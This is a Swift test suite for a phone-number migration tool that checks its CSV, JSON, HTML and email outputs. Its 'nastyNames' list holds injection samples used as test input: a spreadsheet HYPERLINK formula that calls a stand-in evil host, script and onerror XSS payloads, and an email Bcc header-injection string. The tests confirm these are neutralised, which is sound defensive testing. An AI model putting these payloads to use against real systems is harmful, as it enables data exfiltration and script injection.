import Foundation
import GraphEmulator
import Testing
@testable import PhoneShift

/// Runs a program of this machine (python3, chromium) off the cooperative pool; its output
/// goes through files, so that no pipe can fill up.
func runTool(_ executable: String, _ arguments: [String], in dir: TemporaryDirectory) async throws -> (status: Int32, stdout: String, stderr: String) {
    try await runOnThread {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: executable)
        process.arguments = arguments
        let name = UUID().uuidString
        let out = dir.file("\(name).out", ""), err = dir.file("\(name).err", "")
        process.standardOutput = FileHandle(forWritingAtPath: out)
        process.standardError = FileHandle(forWritingAtPath: err)
        try process.run()
        process.waitUntilExit()
        return (process.terminationStatus, (try? String(contentsOfFile: out, encoding: .utf8)) ?? "",
                (try? String(contentsOfFile: err, encoding: .utf8)) ?? "")
    }
}

/// Checks `document` against the JSON schema at `schema` (a path in the repository) with
/// Python's jsonschema (Draft 2020-12), then runs `printing` on it (a Python expression of
/// `doc`) and returns what it printed as JSON; the status is not 0 when the document does not match.
func checkSchema(_ schema: String, _ document: String, printing: String, in dir: TemporaryDirectory) async throws -> (status: Int32, stdout: String, stderr: String) {
    // The python3 on PATH, or Debian's (where .ci/setup installs python3-jsonschema).
    let python = try await runTool("/usr/bin/env", ["python3", "-c", "import jsonschema"], in: dir).status == 0 ? "python3" : "/usr/bin/python3"
    return try await runTool("/usr/bin/env", [python, "-c", """
        import json, sys, jsonschema
        schema = json.load(open(sys.argv[1])); doc = json.load(open(sys.argv[2]))
        jsonschema.Draft202012Validator.check_schema(schema)
        jsonschema.validate(doc, schema, cls=jsonschema.Draft202012Validator)
        print(json.dumps(\(printing), sort_keys=True))
        """, packageRoot + "/" + schema, document], in: dir)
}

/// The headless browser the HTML report is tested in (installed by .ci/setup).
let browser: String? = ["/usr/bin/chromium-headless-shell", "/usr/bin/chromium"].first { FileManager.default.isExecutableFile(atPath: $0) }

extension EngineTests {
    /// Display names a directory may really hold, and some an attacker would try.
    static let nastyNames = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "<script>document.body.setAttribute('data-pwned','script')</script>",
        "<img src=x onerror=\"document.body.setAttribute('data-pwned','img')\">",
        "+SUM(1,2)",
        "Line one\r\nLine two",
        "محمد بن سلمان \u{202E}gnp.exe",
        "Zoë Ångström-Øberg 山田太郎",
        String(repeating: "long-name ", count: 1000) + "end",
    ]

    @Test("Reports after apply with nasty input: report.csv neutralised and masked, report.json valid against its schema, report.html checked in a headless browser, failures.csv fed back in")
    func reportsWithNastyInput() async throws {
        let f = try await EngineFixture(syntheticUsers: 40) { options in
            let base = options.seed.users.count - 40
            // The nasty names are admins: blocked, so always listed in the HTML's attention table.
            for (i, name) in Self.nastyNames.enumerated() {
                options.seed.users[base + i].displayName = name
                options.seed.users[base + i].roles = ["Global Administrator"]
            }
            options.seed.users[base + 11].eligibleRoles = ["User Administrator"]
        }
        defer { Task { await f.stop() } }
        // A ';' sheet with an extra column holding a formula, CR/LF and a 10 kB cell.
        var sheet = "UPN;Phone;Note\n"
        for i in 1...40 {
            let note: String
            switch i % 4 {
            case 0: note = "=1+1"
            case 1: note = "\"two\r\nlines; \"\"quoted\"\"\""
            case 2: note = String(repeating: "x", count: 10_000)
            default: note = "plain"
            }
            sheet += "bench\(i)@contoso.com;\(EngineFixture.newNumber(i));\(note)\n"
        }
        _ = f.dir.file("sheet.csv", sheet)
        _ = f.writeJob(writesPerSecond: 400, concurrency: 4, maxAttempts: 1)
        #expect(try await f.phoneshift(["plan", f.jobPath]).status == 0)
        // Moved behind PhoneShift's back, and Graph failing a share of requests.
        let ids = try await f.userIds()
        try await f.changeInGraph(userId: ids["bench20@contoso.com"]!, slot: "mobile", number: "+1 2065559999")
        try await f.put("/_emulator/faults", json: ["errorRates": ["500": 0.25]])
        let apply = try await f.phoneshift(["apply", f.jobPath])
        #expect(apply.status == 1, "\(apply.stdout) \(apply.stderr)")
        #expect(apply.stdout.contains("report.html") && apply.stdout.contains("failures.csv"), "\(apply.stdout)")
        try await f.put("/_emulator/faults", json: ["errorRates": [String: Double]()])
        let rows = try await f.storeRows()
        let out = f.dir.path + "/out"

        // report.csv, read back with libcsv: a row per sheet row, formulas neutralised, names intact, numbers masked.
        let records = try readAll(out + "/report.csv")
        #expect(records.count == 41)
        let header = records[0].fields
        let documented = try readmeColumns(after: "`report.csv` — one row per sheet row:")
        #expect(header == documented, "report.csv's columns are not the README's")
        let nameColumn = header.firstIndex(of: "display_name")!, afterColumn = header.firstIndex(of: "after")!
        var names: [String: String] = [:]
        for record in records.dropFirst() { names[record.fields[1]] = record.fields[nameColumn] }
        #expect(names["bench1@contoso.com"] == "'" + Self.nastyNames[0])
        #expect(names["bench4@contoso.com"] == "'" + Self.nastyNames[3])
        #expect(names["bench5@contoso.com"] == Self.nastyNames[4])
        #expect(names["bench6@contoso.com"] == Self.nastyNames[5] && names["bench8@contoso.com"] == Self.nastyNames[7])
        #expect(records.dropFirst().allSatisfy { $0.fields[afterColumn].contains("*") })
        #expect(!(try String(contentsOfFile: out + "/report.csv", encoding: .utf8)).contains("2127000001"))
        for file in ["report.csv", "report.json", "report.html", "failures.csv"] {
            let mode = try FileManager.default.attributesOfItem(atPath: out + "/" + file)[.posixPermissions] as? Int
            #expect(mode == 0o600, "\(file)")
        }

        // report.json: valid against the schema in the repository, counts equal the store's.
        let check = try await checkSchema("Sources/PhoneShift/Report/report-v1.schema.json", out + "/report.json",
                                          printing: #"doc["counts"]["byResult"]"#, in: f.dir)
        #expect(check.status == 0, "report.json does not match its schema: \(check.stderr)")
        // Checked from the outside, not with the code's own Reports.result: the admins (bench1…8,
        // and bench12 eligible through PIM) are held back; a row is changed exactly when Graph
        // now holds its number; every other row is moved, failed or of unknown outcome (which
        // of the three depends on which request the faults hit), and bench20 is never changed.
        let live = try await f.state()
        var blocked = 0, changed = 0
        for i in 1...40 {
            if (1...8).contains(i) || i == 12 { blocked += 1 }
            else if live["bench\(i)@contoso.com"]?["mobile"] == EngineFixture.newNumber(i) { changed += 1 }
        }
        let reported = try JSONSerialization.jsonObject(with: Data(check.stdout.utf8)) as? [String: Int] ?? [:]
        #expect(reported["blocked"] == blocked && reported["changed"] == changed, "\(reported)")
        #expect(Set(reported.keys).isSubset(of: ["blocked", "changed", "moved", "failed", "unknown"]), "\(reported)")
        #expect(reported.values.reduce(0, +) == 40, "\(reported)")
        #expect(live["bench20@contoso.com"]?["mobile"] == "+1 2065559999", "the moved number was overwritten")
        let json = try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: out + "/report.json"))) as! [String: Any]
        #expect((json["rows"] as! [[String: Any]]).first { $0["user"] as? String == "bench2@contoso.com" }?["displayName"] as? String == Self.nastyNames[1])
        #expect(!String(decoding: try Data(contentsOf: URL(fileURLWithPath: out + "/report.json")), as: UTF8.self).contains(EmulatorOptions.defaultClientSecret))

        // report.html in a real browser: loads, no console message, no request, script inert, figures equal the store's.
        let chromium = try #require(browser, "chromium-headless-shell is not installed (.ci/setup installs it)")
        let netLog = f.dir.path + "/net.json", shot = f.dir.path + "/report.png"
        let page = try await runTool(chromium, ["--headless", "--no-sandbox", "--disable-gpu", "--enable-logging=stderr", "--v=0",
                                                "--log-net-log=\(netLog)", "--virtual-time-budget=3000", "--dump-dom", "file://\(out)/report.html"],
                                     in: f.dir)
        #expect(page.status == 0, "\(page.stderr)")
        let dom = page.stdout
        #expect(dom.contains("data-ready=\"yes\""), "the page's own script did not run")
        #expect(!dom.contains("data-pwned=\""), "a planted script ran")
        #expect(dom.contains("&lt;script&gt;document.body.setAttribute"), "the planted script is not shown as text")
        #expect(!page.stderr.contains("CONSOLE"), "console messages: \(page.stderr.split(separator: "\n").filter { $0.contains("CONSOLE") })")
        let requests = try String(contentsOfFile: netLog, encoding: .utf8)
        let urls = Set(requests.matches(of: /"url":"([^"]+)"/).map { String($0.1) })
        #expect(urls.allSatisfy { $0.hasPrefix("file://") }, "network requests: \(urls)")
        func figure(_ key: String) -> Int? {
            guard let match = dom.firstMatch(of: try! Regex("data-figure=\"\(key)\">([0-9]+)<")) else { return nil }
            return Int(match.output[1].substring ?? "")
        }
        let written = rows.values.filter { [.changed, .added, .changedNotUnique, .alreadyApplied].contains($0.outcome) }.count
        #expect(figure("written") == written)
        #expect(figure("failed") == rows.values.filter { $0.state == .failed }.count)
        #expect(figure("rows") == 40)
        #expect(figure("to-write") == rows.values.filter { $0.action.writes }.count)
        _ = try await runTool(chromium, ["--headless", "--no-sandbox", "--disable-gpu", "--window-size=1280,1600", "--screenshot=\(shot)",
                                         "file://\(out)/report.html"], in: f.dir)
        #expect(FileManager.default.fileExists(atPath: shot))
        if let keep = ProcessInfo.processInfo.environment["PHONESHIFT_KEEP_SCREENSHOT"] { try? FileManager.default.copyItem(atPath: shot, toPath: keep) }

        // failures.csv: the failed, blocked and moved rows, in the sheet's own columns and delimiter, verbatim.
        let again = rows.values.filter { $0.state == .failed || $0.outcome == .moved || $0.action == .blocked }
        #expect(again.count >= 3)
        let failures = try readAll(out + "/failures.csv", SheetReaderOptions(delimiter: UInt8(ascii: ";")))
        #expect(failures[0].fields == ["UPN", "Phone", "Note"])
        let original = try readAll(f.dir.path + "/sheet.csv", SheetReaderOptions(delimiter: UInt8(ascii: ";")))
        let byUser = Dictionary(original.dropFirst().map { ($0.fields[0], $0.fields) }, uniquingKeysWith: { a, _ in a })
        #expect(failures.count == again.count + 1)
        for record in failures.dropFirst() { #expect(record.fields == byUser[record.fields[0]], "line \(record.line)") }
        #expect(try String(contentsOfFile: out + "/failures.csv", encoding: .utf8).split(separator: "\n").first == "UPN;Phone;Note")
        // … and planned again as a sheet: exactly those rows.
        let rerun = f.dir.file("rerun.yaml", try String(contentsOfFile: f.jobPath, encoding: .utf8)
            .replacingOccurrences(of: "path: sheet.csv", with: "path: out/failures.csv")
            .replacingOccurrences(of: "store: out/test.sqlite", with: "store: rerun/rerun.sqlite")
            .replacingOccurrences(of: "outputs: out", with: "outputs: rerun"))
        let replan = try await f.phoneshift(["plan", rerun])
        #expect(replan.status == 0, "\(replan.stdout) \(replan.stderr)")
        let rerunRows = try await JobStore(path: f.dir.path + "/rerun/rerun.sqlite").allRows(plan: 1)
        #expect(Set(rerunRows.map(\.user)) == Set(again.map(\.user)))
    }

    @Test("failures.csv comes back in the sheet's encoding (a windows-1252 sheet gives a windows-1252 failures.csv the job reads back), and is not made from a sheet that changed since the plan")
    func failuresInTheSheetsEncoding() async throws {
        let f = try await EngineFixture(syntheticUsers: 5) { options in
            // bench5 is an admin: held back, so a row of failures.csv.
            let index = options.seed.users.firstIndex { $0.userPrincipalName == "bench5@contoso.com" }!
            options.seed.users[index].roles = ["Global Administrator"]
        }
        defer { Task { await f.stop() } }
        // "Café" and "Zoë" as Windows-1252 bytes (é = E9, ë = EB).
        var bytes = Array("UPN;Phone;Note\n".utf8)
        for i in 1...4 { bytes += Array("bench\(i)@contoso.com;\(EngineFixture.newNumber(i));Zo".utf8) + [0xEB] + Array("\n".utf8) }
        bytes += Array("bench5@contoso.com;+1 2127000099;Caf".utf8) + [0xE9] + Array("\n".utf8)
        _ = f.dir.file("sheet.csv", bytes: bytes)
        let job = f.writeJob(writesPerSecond: 200)
        let text = try String(contentsOfFile: job, encoding: .utf8).replacingOccurrences(of: "  path: sheet.csv", with: "  path: sheet.csv\n  encoding: windows-1252")
        try text.write(toFile: job, atomically: true, encoding: .utf8)
        #expect(try await f.phoneshift(["plan", f.jobPath]).status == 0)
        let apply = try await f.phoneshift(["apply", f.jobPath])
        #expect(apply.stdout.contains("failures.csv"), "\(apply.stdout) \(apply.stderr)")
        let failures = Array(try Data(contentsOf: URL(fileURLWithPath: f.dir.path + "/out/failures.csv")))
        #expect(failures == Array("UPN;Phone;Note\nbench5@contoso.com;+1 2127000099;Caf".utf8) + [0xE9, 0x0A], "\(failures)")
        // Read back as the job reads its sheet: the same text.
        let back = try readAll(f.dir.path + "/out/failures.csv", SheetReaderOptions(encoding: .windows1252))
        #expect(back.last?.fields == ["bench5@contoso.com", "+1 2127000099", "Café"])

        // The sheet changes after the plan: report still writes its reports, says why failures.csv
        // is not there, and leaves no failures.csv of the wrong rows behind.
        _ = f.dir.file("sheet.csv", bytes: Array("UPN;Phone;Note\nbench9@contoso.com;+1 2127000009;new\n".utf8) + bytes.dropFirst(15))
        let report = try await f.phoneshift(["report", f.jobPath])
        #expect(report.status == 0, "\(report.stderr)")
        #expect(report.stderr.contains("failures.csv was not written") && report.stderr.contains("changed since the plan"), "\(report.stderr)")
        #expect(!FileManager.default.fileExists(atPath: f.dir.path + "/out/failures.csv"))
        #expect(FileManager.default.fileExists(atPath: f.dir.path + "/out/report.csv"))
    }

    @Test("export: the sample tenant to a working sheet (full numbers, owner-only) that validate and plan read back with no changes; --masked for sharing")
    func exportRoundTrip() async throws {
        let f = try await EngineFixture(syntheticUsers: 0)
        defer { Task { await f.stop() } }
        _ = f.dir.file("sheet.csv", "UPN,Phone\n")
        _ = f.writeJob(writesPerSecond: 400, readsPerSecond: 4000)
        let export = f.dir.path + "/export.csv"
        let run = try await f.phoneshift(["export", f.jobPath, "--output", export])
        #expect(run.status == 0, "\(run.stdout) \(run.stderr)")
        #expect(run.stdout.contains("Exported 300 users"), "\(run.stdout)")
        #expect(try FileManager.default.attributesOfItem(atPath: export)[.posixPermissions] as? Int == 0o600)
        let records = try readAll(export)
        let documented = try readmeColumns(after: "Its columns:")
        #expect(records.count == 301 && records[0].fields == documented, "export's columns are not the README's: \(records.first?.fields ?? [])")
        let state = try await f.state()
        let mobile = Exporter.columns.firstIndex(of: "Mobile")!, privileged = Exporter.columns.firstIndex(of: "Privileged")!
        for record in records.dropFirst() {
            #expect(record.fields[mobile] == (state[record.fields[0].lowercased()]?["mobile"] ?? ""), "\(record.fields[0])")
        }
        #expect(records.contains { $0.fields[privileged].hasPrefix("yes (Global Administrator") })
        // Read back: validate, then plan with the export as the sheet: nothing to change.
        let validate = try await f.phoneshift(["validate", export])
        #expect(validate.status == 0, "\(validate.stdout) \(validate.stderr)")
        _ = f.dir.file("sheet.csv", try String(contentsOfFile: export, encoding: .utf8))
        let plan = try await f.phoneshift(["plan", f.jobPath])
        #expect(plan.status == 0, "\(plan.stdout) \(plan.stderr)")
        #expect(plan.stdout.contains("Changes: 0"), "\(plan.stdout)")
        // The review copy masks every number.
        let masked = f.dir.path + "/masked.csv"
        #expect(try await f.phoneshift(["export", f.jobPath, "--output", masked, "--masked"]).status == 0)
        let maskedRecords = try readAll(masked)
        #expect(maskedRecords.dropFirst().allSatisfy { $0.fields[mobile].isEmpty || $0.fields[mobile].contains("*") })
        #expect(zip(maskedRecords, records).allSatisfy { $0.fields[0] == $1.fields[0] })
    }
}

extension EngineTests {
    @Test("Notification drafts: one .eml per changed user with mail, parsed by Python's email package; hostile names inert; edited templates used; the helpdesk summary lists who has no mail")
    func notificationDrafts() async throws {
        let hostile = Self.nastyNames + ["Eve\r\nBcc: everyone@evil.example", "\"Quoted, Name\" <fake@evil.example>"]
        let f = try await EngineFixture(syntheticUsers: 12) { options in
            let base = options.seed.users.count - 12
            for (i, name) in hostile.prefix(11).enumerated() { options.seed.users[base + i].displayName = name }
            options.seed.users[base + 11].mail = nil
            // bench2 has nothing besides phones (and a password): the summary lists them.
            options.seed.users[base + 1].otherMethods = [DirectorySeed.OtherMethodSeed(type: "password")]
        }
        defer { Task { await f.stop() } }
        _ = f.writeSheet(count: 12)
        // An organisation's copy of the templates with its own subject and sign-off.
        let templates = f.dir.path + "/templates"
        try FileManager.default.createDirectory(atPath: templates, withIntermediateDirectories: true)
        for name in DraftTemplates.names {
            var text = try String(contentsOfFile: packageRoot + "/Jobs/templates/\(name).mustache", encoding: .utf8)
            if name == "user.subject" { text = "Contoso: your MFA number changed\n" }
            if name == "user.txt" { text += "\nCONTOSO-SIGNATURE\n" }
            _ = f.dir.file("templates/\(name).mustache", text)
        }
        _ = f.writeJob(writesPerSecond: 400, extra: """
            notify:
              from: Contoso IT <it@contoso.com>
              replyTo: helpdesk@contoso.com
              helpdesk: "+1 206 555 0100"
              templates: templates
              afterApply: true
            """)
        #expect(try await f.phoneshift(["plan", f.jobPath]).status == 0)
        let apply = try await f.phoneshift(["apply", f.jobPath])
        #expect(apply.status == 0, "\(apply.stdout) \(apply.stderr)")
        #expect(apply.stdout.contains("Drafts: 11 notification drafts"), "\(apply.stdout)")
        let runFolder = try #require(FileManager.default.contentsOfDirectory(atPath: f.dir.path + "/out/drafts").first)
        let folder = f.dir.path + "/out/drafts/" + runFolder
        let parse = try await runTool("/usr/bin/env", ["python3", "-c", """
            import email, email.policy, json, os, sys
            out = {}
            for name in sorted(os.listdir(sys.argv[1])):
                with open(os.path.join(sys.argv[1], name), "rb") as fh:
                    raw = fh.read()
                m = email.message_from_bytes(raw, policy=email.policy.default)
                parts = {p.get_content_type(): p.get_content() for p in m.walk() if not p.is_multipart()}
                out[name] = {"headers": sorted(set(k.lower() for k in m.keys())), "from": str(m["From"]), "to": str(m["To"]),
                             "toAddress": m["To"].addresses[0].addr_spec, "toName": m["To"].addresses[0].display_name,
                             "subject": str(m["Subject"]), "type": m.get_content_type(), "parts": parts,
                             "defects": [str(d) for d in m.defects] + [str(d) for p in m.walk() for d in p.defects],
                             "crlf": b"\\r\\n" in raw and b"\\n" not in raw.replace(b"\\r\\n", b"")}
            print(json.dumps(out))
            """, folder], in: f.dir)
        #expect(parse.status == 0, "\(parse.stderr)")
        let drafts = try JSONSerialization.jsonObject(with: Data(parse.stdout.utf8)) as! [String: [String: Any]]
        #expect(drafts.count == 12, "\(drafts.keys.sorted())")  // 11 users + the helpdesk summary
        let users = drafts.filter { $0.key != "helpdesk-summary.eml" }
        let state = try await f.state()
        for (name, d) in users {
            #expect(d["headers"] as? [String] == ["content-type", "date", "from", "message-id", "mime-version", "reply-to", "subject", "to", "x-unsent"], "\(name)")
            #expect((d["defects"] as? [Any])?.isEmpty == true, "\(name): \(d["defects"] ?? "")")
            #expect(d["crlf"] as? Bool == true)
            #expect(d["type"] as? String == "multipart/alternative")
            #expect(d["subject"] as? String == "Contoso: your MFA number changed")
            let parts = d["parts"] as! [String: String]
            #expect(parts["text/plain"]?.contains("CONTOSO-SIGNATURE") == true)
            #expect(parts["text/plain"]?.contains("+1 206 555 0100") == true)
            #expect(!(parts["text/html"] ?? "<script>").contains("<script") && !(parts["text/html"] ?? "<img").contains("<img"), "\(name)")
            // The new number, masked, and never in full.
            let upn = (d["toAddress"] as! String).lowercased()
            let full = try #require(state[upn]?["mobile"])
            #expect(!(parts["text/plain"] ?? "").contains(full) && (parts["text/plain"] ?? "").contains("*"))
        }
        // Hostile names stay one display name: no header injected, the address is the directory's mail.
        let names = Set(users.values.compactMap { $0["toName"] as? String })
        #expect(names.contains(hostile[3]) && names.contains(hostile[5]) && names.contains(hostile[6]) && names.contains(hostile[9]), "\(names)")
        #expect(names.contains("Line one Line two") && names.contains("Eve Bcc: everyone@evil.example"), "\(names)")
        // Longer than one encoded-word: cut, with the full name in the body.
        #expect(names.contains { $0.hasPrefix("<script>document.body") && $0.hasSuffix("…") && !$0.contains("</script>") })
        #expect(names.contains { $0.hasPrefix("long-name long-name") && $0.count < 50 })
        #expect(users.values.allSatisfy { ($0["toAddress"] as? String ?? "").hasSuffix("@contoso.com") })
        #expect(!parse.stdout.contains("\"bcc\""))
        let summary = try #require(drafts["helpdesk-summary.eml"])
        let summaryText = (summary["parts"] as! [String: String])["text/plain"] ?? ""
        #expect(summaryText.contains("bench12@contoso.com"), "\(summary)")
        #expect(summaryText.contains("No usable e-mail address (1)"))
        let phonesOnly = try #require(summaryText.range(of: "No MFA method besides phones (1):"), "\(summaryText)")
        #expect(summaryText[phonesOnly.upperBound...].prefix(80).contains("bench2@contoso.com"), "\(summaryText)")
        for file in try FileManager.default.contentsOfDirectory(atPath: folder) {
            #expect(try FileManager.default.attributesOfItem(atPath: folder + "/" + file)[.posixPermissions] as? Int == 0o600)
        }
    }

    @Test("The templates in Jobs/templates are the built-in defaults (an organisation's starting copy)")
    func templatesMatchDefaults() throws {
        for name in DraftTemplates.names {
            let file = try String(contentsOfFile: packageRoot + "/Jobs/templates/\(name).mustache", encoding: .utf8)
            #expect(file == DraftTemplates.defaults[name]! + "\n", "\(name)")
        }
    }
}
